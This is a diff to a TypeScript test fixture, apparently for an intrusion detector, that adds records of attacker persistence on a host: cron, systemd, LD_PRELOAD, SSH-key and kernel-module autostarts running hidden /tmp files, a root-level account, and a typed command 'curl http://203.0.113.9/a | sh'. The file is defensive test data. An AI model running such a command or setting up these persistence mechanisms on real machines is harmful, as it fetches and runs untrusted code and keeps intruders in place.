@@ -13,7 +13,7 @@ export function longNamed(name: string): FactsFixture {
       { ...base, client: "192.0.2.3:1", dialect: "stratum-v2" },
     ],
     contacts: [{ client: "192.0.2.4", by: "dns", name, chain: [name, name], pool: name, matched: name }],
-    host: [...wayIn(name)],
+    host: [...wayIn(name), ...staying(name)],
   };
 }
 
@@ -21,5 +21,19 @@ function wayIn(name: string): HostFixture[] {
   return [
     { kind: "login", at: 0, outcome: "failed", user: name, from: name, times: 40, excerpt: name },
     { kind: "login", at: 60, user: name, from: name, service: name, method: name, excerpt: name },
+  ];
+}
+
+function staying(name: string): HostFixture[] {
+  const start = { kind: "autostart", path: `/${name}`, name, user: name, excerpt: name } as const;
+  const typed = { kind: "command", at: 90, user: name, from: name, by: name } as const;
+  return [
+    { ...start, mechanism: "cron", schedule: name, command: `/tmp/.${name}` },
+    { ...start, mechanism: "systemd", command: `/tmp/.${name}` },
+    { ...start, mechanism: "ld-preload", command: `/tmp/.${name}` },
+    { ...start, mechanism: "authorized-key", at: 90, command: `ssh-rsa AAAA ${name}` },
+    { ...start, mechanism: "kernel-module", command: `/tmp/.${name}.ko` },
+    { kind: "account", user: name, uid: 0, shell: name, home: name },
+    { ...typed, text: `curl http://203.0.113.9/a | sh; ${name}` },
   ];
 }
